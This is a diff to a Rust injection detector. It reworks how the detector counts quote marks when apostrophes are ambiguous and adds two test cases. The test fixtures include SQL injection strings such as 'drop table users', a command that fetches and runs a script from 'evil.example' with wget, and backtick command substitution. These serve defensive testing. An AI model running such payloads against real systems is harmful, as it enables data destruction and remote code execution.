@@ -82,15 +82,20 @@ fn leaves_quote(line: &[u8]) -> bool {
         at.and_then(|at| line.get(at))
             .is_some_and(|b| b.is_ascii_alphabetic() || *b >= 0x80)
     };
-    let quotes = |quote: u8| {
-        positions(line, quote)
-            .filter(move |at| goes_on(*at) || !(letter(at.checked_sub(1)) && letter(at.checked_add(1))))
+    // Whether one that a query may go on behind is an apostrophe is not known.
+    let odd = |quote: u8, told: bool| {
+        let apostrophe = |at: &usize| letter(at.checked_sub(1)) && letter(at.checked_add(1));
+        let quotes = positions(line, quote).filter(|at| !apostrophe(at) || told && goes_on(*at));
+        quotes.count() % 2 == 1
     };
     let begun = word_len(line, 0);
     let closes = matches!(low(line, begun), b'\'' | b'"')
         && matches!(low(line, begun + 1), b')' | b';' | b' ' | b'\t')
         && begun > 0;
-    closes || [b'\'', b'"'].iter().any(|quote| quotes(*quote).count() % 2 == 1)
+    closes
+        || [b'\'', b'"']
+            .iter()
+            .any(|quote| odd(*quote, true) || odd(*quote, false))
 }
 
 /// Whether a line is what an argument goes on with, and no command of a script nor words with marks between: a separator
@@ -165,6 +170,8 @@ mod tests {
             "x'order by 5#",
             "x'limit 1;drop table users#",
             "x'rlike sleep(5)#",
+            "a'like'b'; drop table users#",
+            "x'mod'' order by 5#'",
             "| wget evil.example/x; sh x |",
             "x`id`",
             "127.0.0.1`id`",
